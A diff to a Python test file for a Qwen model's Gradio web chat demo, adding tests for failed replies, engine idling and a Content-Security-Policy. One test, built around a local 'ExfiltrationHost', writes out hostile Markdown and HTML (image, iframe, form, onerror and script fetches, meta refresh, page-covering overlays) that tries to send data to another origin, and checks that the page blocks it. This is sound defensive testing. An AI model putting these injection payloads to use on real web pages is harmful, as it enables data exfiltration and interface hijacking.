@@ -4,22 +4,25 @@ Two servers per module:
 - `python web_demo.py -c demo`, a real process on 127.0.0.1, over a copy of the tiny checkpoint whose sampled replies
   run for 4000 tokens (minutes): it must show the random-weights note, and Stop, Clear or a closed tab must end a
   reply that would otherwise run on for nobody. That the engine really stopped is read from the process's CPU time.
-- the page `build_demo` makes, served from this process with greedy 24-token replies: every reply it shows is
-  checked against transformers' own `generate()`.
+- the page `build_demo` makes, served from this process with 24-token replies sampled with top_k=1 (so the greedy
+  ones): every reply it shows is checked against transformers' own `generate()`. Its checkpoint is the tiny one with
+  a NaN embedding for one word, so that a question holding that word fails inside the engine.
 
 What the browser sends back is read from the page's requests: each reply event posts the textbox and the whole
 conversation, which is exactly the history the model is given next. Every URL any page requests is recorded too:
-nothing may leave 127.0.0.1.
+nothing may leave 127.0.0.1, and no message may make the page load anything from another origin.
 """
 
 from __future__ import annotations
 
-import importlib.util
+import http.server
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
+import threading
 import time
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
@@ -27,11 +30,22 @@ from pathlib import Path
 from typing import Any
 from urllib.parse import urlsplit
 
+import httpx
 import pytest
+from playwright.sync_api import expect
 
 from qwen.engine import GenerationEngine, SamplingParams, chat_stop_token_ids
 from qwen.qwen_generation_utils import make_context
-from support import free_port, greedy_reference, stop, wait_until_serving
+from support import (
+    POISONED_WORD,
+    free_port,
+    greedy_reference,
+    import_script,
+    nan_embedding_checkpoint,
+    options_hiding_their_default,
+    stop,
+    wait_until_serving,
+)
 
 REPO = Path(__file__).resolve().parents[1]
 # The README's screenshot is refreshed only on request, so a test run leaves the checkout as it found it.
@@ -63,14 +77,16 @@ def greedy_params(tokenizer: Any, max_new_tokens: int) -> SamplingParams:
                           stop_token_ids=chat_stop_token_ids(tokenizer))
 
 
+def top_1_params(tokenizer: Any, max_new_tokens: int) -> SamplingParams:
+    """Sampled from the single likeliest token: the greedy reply, but NaN logits fail as they fail any sampling."""
+    return SamplingParams(max_new_tokens=max_new_tokens, do_sample=True, top_k=1,
+                          repetition_penalty=REPETITION_PENALTY, stop_token_ids=chat_stop_token_ids(tokenizer))
+
+
 @pytest.fixture(scope="module")
 def web_demo():
     """web_demo.py imported as a module (it is a script at the repository root, not part of the package)."""
-    spec = importlib.util.spec_from_file_location("web_demo", REPO / "web_demo.py")
-    module = importlib.util.module_from_spec(spec)
-    sys.modules["web_demo"] = module
-    spec.loader.exec_module(module)
-    return module
+    return import_script(REPO / "web_demo.py")
 
 
 # --------------------------------------------------------------------------------------------------------------------
@@ -92,17 +108,30 @@ class Server:
     url: str
     log: Path
 
-    def cpu_seconds(self, over: float) -> float:
-        """CPU time the server process (all its threads) uses during the next `over` seconds."""
-        ticks = os.sysconf("SC_CLK_TCK")
+    def cpu_used(self) -> float:
+        """CPU seconds the server process (all its threads) has used so far."""
+        fields = Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
+        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")  # utime, stime
 
-        def used() -> float:
-            fields = Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
-            return (int(fields[11]) + int(fields[12])) / ticks  # utime, stime
+    def wait_busy(self, seconds: float = 0.5, timeout: float = 60) -> None:
+        """Wait until the server has used `seconds` more of CPU time: it is generating (however busy the machine)."""
+        start, deadline = self.cpu_used(), time.monotonic() + timeout
+        while self.cpu_used() - start < seconds:
+            assert time.monotonic() < deadline, "the server did not generate"
+            time.sleep(0.05)
 
-        start = used()
-        time.sleep(over)
-        return used() - start
+    def wait_idle(self, window: float = 2.0, at_most: float = 0.1, timeout: float = 30) -> None:
+        """Wait until the server uses at most `at_most` CPU seconds in `window` seconds: its engine has stopped.
+
+        Generating takes far more than that even on a loaded machine (a fair share of a core, not 5% of one).
+        """
+        deadline = time.monotonic() + timeout
+        while True:
+            start = self.cpu_used()
+            time.sleep(window)
+            if self.cpu_used() - start <= at_most:
+                return
+            assert time.monotonic() < deadline, "the server kept generating"
 
 
 @pytest.fixture(scope="module")
@@ -130,7 +159,7 @@ def demo_server_started(tmp_path_factory, tiny_chat_dir, vocab_file) -> Iterator
 @pytest.fixture(scope="module")
 def demo_server(demo_server_started: Server) -> Server:
     server = demo_server_started
-    wait_until_serving(server.process, server.url, timeout=60, output=server.log.read_text)
+    wait_until_serving(server.process, server.url, timeout=120, output=server.log.read_text)
     return demo_server_started
 
 
@@ -141,15 +170,26 @@ class LocalApp:
 
 
 @pytest.fixture(scope="module")
-def chat_app(web_demo, tiny_chat_model, tokenizer) -> Iterator[LocalApp]:
-    """The page `build_demo` makes, served from this process: greedy replies of REPLY_TOKENS tokens."""
-    engine = GenerationEngine(tiny_chat_model, tokenizer, max_batch_size=8)
-    demo = web_demo.build_demo(engine, tokenizer, greedy_params(tokenizer, REPLY_TOKENS),
+def poisoned_model(tmp_path_factory, tiny_chat_dir, tokenizer):
+    """The tiny chat model with a NaN embedding for POISONED_WORD: sampling a reply to a prompt holding it fails."""
+    from qwen import QWenLMHeadModel
+
+    (token_id,) = tokenizer.encode(POISONED_WORD)
+    folder = nan_embedding_checkpoint(tiny_chat_dir, tmp_path_factory.mktemp("poisoned") / "checkpoint", token_id)
+    return QWenLMHeadModel.from_pretrained(folder).eval()
+
+
+@pytest.fixture(scope="module")
+def chat_app(web_demo, poisoned_model, tokenizer) -> Iterator[LocalApp]:
+    """The page `build_demo` makes, served from this process: greedy replies of REPLY_TOKENS tokens (top-1 sampled,
+    so that a question holding POISONED_WORD fails)."""
+    engine = GenerationEngine(poisoned_model, tokenizer, max_batch_size=8)
+    demo = web_demo.build_demo(engine, tokenizer, top_1_params(tokenizer, REPLY_TOKENS),
                                model_name="qwen-tiny-random-chat")
     port = free_port()
     # As main() launches it, without holding this thread.
-    demo.launch(server_name="127.0.0.1", server_port=port, share=False, ssr_mode=False, prevent_thread_lock=True,
-                quiet=True)
+    web_demo.launch_demo(demo, server_name="127.0.0.1", server_port=port, share=False, prevent_thread_lock=True,
+                         quiet=True)
     try:
         yield LocalApp(f"http://127.0.0.1:{port}/", engine)
     finally:
@@ -186,6 +226,10 @@ class ChatTab:
     def __init__(self, browser, url: str, requested: list[str]) -> None:
         self.context = browser.new_context(viewport={"width": 1280, "height": 800})
         self.context.on("request", lambda request: requested.append(request.url))
+        # What the page's Content-Security-Policy refused, from the first byte of the page on.
+        self.context.add_init_script(
+            "window.cspViolations = []; document.addEventListener('securitypolicyviolation', event => "
+            "window.cspViolations.push(`${event.effectiveDirective} ${event.blockedURI}`));")
         self.page = self.context.new_page()
         self.closed = False
         self.sent: list[list] = []  # the inputs of each reply event: [textbox, conversation]
@@ -212,15 +256,18 @@ class ChatTab:
     def regenerate(self) -> None:
         self.trigger(lambda: self.page.click("#regen-btn"))
 
+    # (Waits by selector and `expect`: the page's Content-Security-Policy refuses wait_for_function's eval.)
+
     def wait_finished(self, timeout: float = 30) -> None:
         """Wait until the running reply is complete: the Chatbot's status tracker is hidden again."""
-        self.page.wait_for_function(f"document.querySelector(\"{TRACKER}\")?.classList.contains('hide')",
-                                    timeout=timeout * 1000)
+        self.page.wait_for_selector(f"{TRACKER}.hide", state="attached", timeout=timeout * 1000)
 
     def wait_streaming(self, replies: int = 1) -> None:
         """Wait until the `replies`-th reply has begun to show text."""
-        self.page.wait_for_function(
-            f"document.querySelectorAll(\"{BOT}\")[{replies - 1}]?.innerText.trim().length > 0", timeout=30_000)
+        expect(self.page.locator(BOT).nth(replies - 1)).to_have_text(re.compile(r"\S"), timeout=30_000)
+
+    def csp_violations(self) -> list[str]:
+        return self.page.evaluate("window.cspViolations")
 
     def counts(self) -> tuple[int, int]:
         """(user messages, assistant messages) on the page."""
@@ -325,12 +372,13 @@ def test_a_two_turn_chat_shows_the_model_replies_and_keeps_plain_text_history(ch
 
     # Clear history empties the chat, and the next question starts a new conversation.
     page.click("#clear-btn")
-    page.wait_for_function(f"document.querySelectorAll(\"{USER}, {BOT}\").length === 0", timeout=10_000)
+    expect(page.locator(f"{USER}, {BOT}")).to_have_count(0, timeout=30_000)
     tab.ask("Hello again")
     assert tab.sent[-1][1] == []
     tab.wait_finished()
     assert tab.counts() == (1, 1)
     assert chat_app.engine.running == 0
+    assert tab.csp_violations() == []  # the policy takes nothing from the page itself: Markdown, code, buttons
 
 
 def test_tabs_chat_independently_at_the_same_time(chat_app, open_tab, expected_reply):
@@ -349,6 +397,165 @@ def test_tabs_chat_independently_at_the_same_time(chat_app, open_tab, expected_r
         tab.wait_finished()
 
 
+def test_a_failed_reply_shows_in_its_chat_and_no_other_tab_notices(web_demo, chat_app, open_tab, expected_reply):
+    poisoned = f"Is this{POISONED_WORD} one?"
+    failing, other = open_tab(chat_app.url), open_tab(chat_app.url)
+    failing.ask(poisoned)
+    other.ask("Tab two: hello")  # decoded beside the failing reply when the two overlap
+    for tab in (failing, other):
+        tab.wait_finished()
+    assert failing.counts() == (1, 1)
+    error = failing.page.locator(BOT).first.inner_text()
+    assert web_demo.ERROR_TITLE in error and "Generation failed: RuntimeError" in error
+    other.ask("More, please.")
+    assert other.last_sent_conversation() == [("user", "Tab two: hello"),
+                                              ("assistant", expected_reply("Tab two: hello"))]
+    other.wait_finished()
+
+    # The failing tab's chat goes on, and the failed question is no part of what the model sees.
+    failing.ask("Hello again")
+    failing.wait_finished()
+    failing.ask("Thanks!")
+    (user, asked), (assistant, shown), *rest = failing.last_sent_conversation()
+    assert (user, asked, assistant) == ("user", poisoned, "assistant") and shown.startswith("Generation failed:")
+    assert rest == [("user", "Hello again"), ("assistant", expected_reply("Hello again"))]
+    failing.wait_finished()
+
+
+class ExfiltrationHost:
+    """A real HTTP server on another port of this machine, recording the path of every request that reaches it."""
+
+    def __init__(self) -> None:
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "text/plain")
+                self.end_headers()
+                self.wfile.write(b"recorded")
+
+            do_POST = do_GET
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def hostile_markup(origin: str, fixed_classes: str) -> str:
+    """Markdown and HTML that would make a page fetch from, post to or frame `origin`, or cover the page (with an
+    inline style, and with `fixed_classes`, classes of the page's own style sheets that make an element fixed)."""
+    return "\n\n".join([
+        f"![chart]({origin}/markdown-image?secret=42)",
+        f'<img src="{origin}/img"> <img srcset="{origin}/srcset 1x"> <picture><source srcset="{origin}/source">'
+        "</picture>",
+        f'<svg><image href="{origin}/svg-image"/><use href="{origin}/svg-use#x"/></svg>',
+        f'<video poster="{origin}/poster"></video> <audio src="{origin}/audio" autoplay></audio>',
+        f'<iframe src="{origin}/iframe"></iframe> <object data="{origin}/object"></object>',
+        f'<embed src="{origin}/embed">',
+        f'<link rel="stylesheet" href="{origin}/link"> <style>@import url({origin}/import);</style>',
+        f'<span style="background-image: url({origin}/style-attribute)">styled</span>',
+        f'<table background="{origin}/table-background"><tr><td>cell</td></tr></table>',
+        f'<form action="{origin}/form" method="post"><input name="secret" value="42"><button>Send</button></form>',
+        f'<input type="image" src="{origin}/input-image"> <img src="x" onerror="fetch(\'{origin}/onerror\')">',
+        f'<script>fetch("{origin}/script")</script> <meta http-equiv="refresh" content="0;url={origin}/refresh">',
+        '<div class="cover" style="position: fixed !important; inset: 0; z-index: 99999; background: red">cover</div>',
+        f'<div class="cover {fixed_classes}">cover</div>',
+        "END OF THE HOSTILE TEXT",
+    ])
+
+
+def test_messages_load_nothing_from_other_origins_and_cover_nothing(web_demo, chat_app, open_tab):
+    host = ExfiltrationHost()
+    try:
+        tab = open_tab(chat_app.url)
+        page = tab.page
+        requests = []
+        page.on("request", lambda request: requests.append(request))
+        # Gradio's own style sheets give some classes position: fixed (a full-screen block, for one).
+        fixed_classes = page.evaluate("""() => {
+            for (const sheet of document.styleSheets) {
+                for (const rule of sheet.cssRules) {
+                    if (rule.style?.position === "fixed" && /^(\\.[\\w-]+)+$/.test(rule.selectorText)) {
+                        return rule.selectorText.split(".").join(" ").trim();
+                    }
+                }
+            }
+        }""")
+        assert fixed_classes
+        hostile = hostile_markup(host.origin, fixed_classes)
+        tab.ask(hostile)  # the user's own text
+        tab.wait_finished()
+
+        # The reply in the history the page posts back is swapped for the hostile text: the server streams that
+        # history back to the page, which renders it as the model's message.
+        def swap_reply(route) -> None:
+            body = route.request.post_data_json
+            body["data"][1][1]["content"] = [{"type": "text", "text": hostile}]
+            route.continue_(post_data=json.dumps(body))
+
+        page.route("**/queue/join*", swap_reply)
+        tab.ask("Thanks!")
+        tab.wait_finished()
+        page.unroute("**/queue/join*")
+        assert "END OF THE HOSTILE TEXT" in page.locator(USER).first.inner_text()
+        assert "END OF THE HOSTILE TEXT" in page.locator(BOT).first.inner_text()
+        # (answered: the earlier turn, too long to fit beside the question and the reply, is left out of the prompt)
+        assert web_demo.ERROR_TITLE not in page.locator(BOT).nth(1).inner_text()
+
+        # Even markup that got past every filter is refused by the page's Content-Security-Policy.
+        outcome = page.evaluate("""origin => {
+            const image = document.createElement("img");
+            image.src = origin + "/injected-image";
+            document.body.append(image);
+            return fetch(origin + "/injected-fetch").then(() => "fetched", () => "refused");
+        }""", host.origin)
+        assert outcome == "refused"
+
+        # The browser tried some of these (Gradio's sanitizer keeps images), but refused each one before sending it.
+        own = urlsplit(chat_app.url).netloc
+        for request in requests:
+            if urlsplit(request.url).scheme in ("http", "https") and urlsplit(request.url).netloc != own:
+                assert request.response() is None and request.failure in ("csp", "net::ERR_BLOCKED_BY_CSP"), (
+                    request.url, request.failure)
+        assert host.hits == []
+        control = tab.context.new_page()  # the host does record what reaches it
+        control.goto(f"{host.origin}/control")
+        control.close()
+        assert "/control" in host.hits
+
+        # Nothing from a message covers the page or asks for input. (The style attribute is refused by the policy; the
+        # classes do make the element fixed, but within its message, which holds it as a box of its own.)
+        covers = page.locator("#chatbot .cover")
+        assert covers.count() == 4
+        assert covers.evaluate_all("elements => elements.map(e => getComputedStyle(e).position)") == [
+            "static", "fixed", "static", "fixed"]
+        for cover in covers.all():
+            message = cover.locator("xpath=ancestor::*[contains(@class, 'message-content')][1]").bounding_box()
+            box = cover.bounding_box()
+            assert message["y"] - 1 <= box["y"] and box["y"] + box["height"] <= message["y"] + message["height"] + 1
+            assert message["x"] - 1 <= box["x"] and box["x"] + box["width"] <= message["x"] + message["width"] + 1
+        for selector in ("#submit-btn", "#msg textarea", "#clear-btn"):
+            box = page.locator(selector).bounding_box()
+            assert page.evaluate(
+                "([selector, x, y]) => document.querySelector(selector).contains(document.elementFromPoint(x, y))",
+                [selector, box["x"] + box["width"] / 2, box["y"] + box["height"] / 2]), selector
+        controls = "#chatbot .message-content :is(form, input, select, textarea, button:not(.copy_code_button))"
+        assert page.locator(controls).evaluate_all("elements => elements.filter(e => e.checkVisibility())") == []
+        embedded = "#chatbot .message-content :is(iframe, object, embed, script, link, meta, style, base)"
+        assert page.locator(embedded).count() == 0
+    finally:
+        host.close()
+
+
 def test_demo_checkpoint_shows_the_random_weights_note(demo_server, open_tab):
     note = open_tab(demo_server.url).page.locator("#demo-notice")
     assert note.is_visible()
@@ -359,13 +566,13 @@ def test_stop_and_clear_end_a_long_reply_and_the_engine_goes_idle(demo_server, o
     tab = open_tab(demo_server.url)
     tab.ask("Tell me a very long story.")
     tab.wait_streaming()
-    assert demo_server.cpu_seconds(over=1.0) > 0.6  # generating keeps the server busy
+    demo_server.wait_busy()  # generating keeps the server busy
 
     tab.page.click("#stop-btn")
-    tab.wait_finished(timeout=10)
-    time.sleep(0.5)
+    tab.wait_finished()
+    demo_server.wait_idle()  # the engine stopped, not just the page
     shown = tab.page.locator(BOT).first.inner_text()
-    assert demo_server.cpu_seconds(over=1.5) < 0.3  # the engine stopped, not just the page
+    demo_server.wait_idle()
     assert tab.page.locator(BOT).first.inner_text() == shown
     assert tab.counts() == (1, 1)  # the partial reply stays ...
 
@@ -377,10 +584,10 @@ def test_stop_and_clear_end_a_long_reply_and_the_engine_goes_idle(demo_server, o
 
     # Clear during a reply stops it too, and the chat stays empty.
     tab.page.click("#clear-btn")
-    tab.wait_finished(timeout=10)
-    time.sleep(0.5)
+    tab.wait_finished()
+    demo_server.wait_idle()
     assert tab.counts() == (0, 0)
-    assert demo_server.cpu_seconds(over=1.5) < 0.3
+    assert tab.csp_violations() == []
 
 
 def test_closing_a_tab_cancels_its_reply(demo_server, open_tab):
@@ -388,19 +595,19 @@ def test_closing_a_tab_cancels_its_reply(demo_server, open_tab):
     tab.ask("Tell me another very long story.")
     tab.wait_streaming()
     tab.close()
-    deadline = time.time() + 10
-    while demo_server.cpu_seconds(over=1.0) > 0.2:
-        assert time.time() < deadline, "the server kept generating for a closed tab"
+    demo_server.wait_idle()  # it does not generate for a closed tab
 
 
-def test_the_pages_request_nothing_from_other_hosts(demo_server, open_tab, requested):
+def test_the_pages_request_nothing_from_other_hosts(web_demo, demo_server, open_tab, requested):
     # Markdown, code and LaTeX on the page make it load whatever renders them.
     tab = open_tab(demo_server.url)
     tab.ask(MARKDOWN_QUESTION + "\n$$x^2$$")
     tab.wait_streaming()
     tab.page.click("#stop-btn")
-    tab.wait_finished(timeout=10)
+    tab.wait_finished()
     assert tab.page.locator(f"{USER} .katex").count() == 1
+    # The page refuses, by its Content-Security-Policy, anything a message could make it load (see below).
+    assert httpx.get(demo_server.url).headers["content-security-policy"] == web_demo.CONTENT_SECURITY_POLICY
     hosts = {urlsplit(url).hostname for url in requested if not url.startswith(("data:", "blob:"))}
     assert hosts == {"127.0.0.1"}, sorted(url for url in requested if urlsplit(url).hostname != "127.0.0.1")
 
@@ -415,12 +622,14 @@ def test_history_is_the_plain_text_of_the_chatbot_messages(web_demo):
         {"role": "user", "content": "a <b>"},  # as a handler returns it
         {"role": "assistant", "content": [{"type": "text", "text": "**b**"}]},  # as the browser sends it back
         {"role": "user", "content": [{"type": "text", "text": "stopped before any text"}]},
+        {"role": "user", "content": "failed"},
+        {**web_demo.error_message("Generation failed."), "content": [{"type": "text", "text": "Generation failed."}]},
         {"role": "user", "content": "c"},
         {"role": "assistant", "content": "d"},
     ]
     assert web_demo.history_pairs(messages) == [("a <b>", "**b**"), ("stopped before any text", ""), ("c", "d")]
-    assert web_demo.without_last_reply(messages) == messages[:4]
-    assert web_demo.without_last_reply(messages[:4]) == messages[:4]
+    assert web_demo.without_last_reply(messages) == messages[:6]
+    assert web_demo.without_last_reply(messages[:5]) == messages[:4]  # Regenerate asks a failed question again
     assert web_demo.without_last_reply([]) == []
 
 
@@ -434,7 +643,7 @@ def engine(tiny_chat_model, tokenizer) -> Iterator[GenerationEngine]:
 
 
 def wait_running(engine: GenerationEngine, count: int) -> None:
-    deadline = time.time() + 5
+    deadline = time.time() + 30
     while engine.running > count:
         assert time.time() < deadline, "the engine kept generating an abandoned reply"
         time.sleep(0.01)
@@ -459,8 +668,9 @@ def test_stop_and_clear_end_a_sessions_reply(web_demo, engine, tokenizer):
     chat = web_demo.WebChat(engine, tokenizer, greedy_params(tokenizer, LONG_REPLY_TOKENS))
     stream = chat.reply(LONG_QUESTION, session="a")
     shown = [next(stream)]
-    assert not chat.stop("b")  # another session's Stop changes nothing
-    time.sleep(0.2)
+    assert not chat.stop("b")  # another session's Stop changes nothing: the reply goes on growing
+    while len(shown[-1][1]["content"]) <= len(shown[0][1]["content"]):
+        shown.append(next(stream))
     assert engine.running == 1
     assert chat.stop("a")
     shown.extend(stream)  # the stream ends by itself, with the reply as far as it got
@@ -487,3 +697,26 @@ def test_stopping_one_sessions_reply_leaves_the_others_intact(web_demo, engine, 
     ids = make_context(tokenizer, question, system=SYSTEM)[1]
     tokens = greedy_reference(tiny_chat_model, tokenizer, ids, 40, repetition_penalty=REPETITION_PENALTY)
     assert shown[-1][-1]["content"] == tokenizer.decode(tokens, skip_special_tokens=True, errors="replace").strip()
+
+
+def test_a_refused_question_shows_an_error_in_the_chat(web_demo, engine, tokenizer):
+    chat = web_demo.WebChat(engine, tokenizer, greedy_params(tokenizer, 8))
+    too_long = [{"role": "user", "content": "word " * engine.max_context}]
+    *_, shown = chat.reply(too_long, session="a")
+    assert shown[0] == too_long[0] and web_demo.is_error_message(shown[1]) and "context" in shown[1]["content"]
+    assert engine.running == 0 and not chat.stop("a")
+
+
+def test_unusable_generation_settings_are_refused_at_start(web_demo, tiny_chat_dir, tmp_path):
+    folder = checkpoint_copy(tiny_chat_dir, tmp_path / "absurd", repetition_penalty=1e-300)
+    # main() itself, in this process (a server process would take seconds to import Gradio): a SystemExit with a
+    # message is Python's one-line error, exit status 1.
+    with pytest.raises(SystemExit) as exited:
+        web_demo.main(["-c", str(folder), "--cpu-only", "--server-port", str(free_port())])
+    message = exited.value.code
+    assert isinstance(message, str) and message.startswith("error:") and "\n" not in message
+    assert "repetition_penalty" in message
+
+
+def test_every_option_shows_its_default(web_demo):
+    assert options_hiding_their_default(web_demo.build_parser()) == []
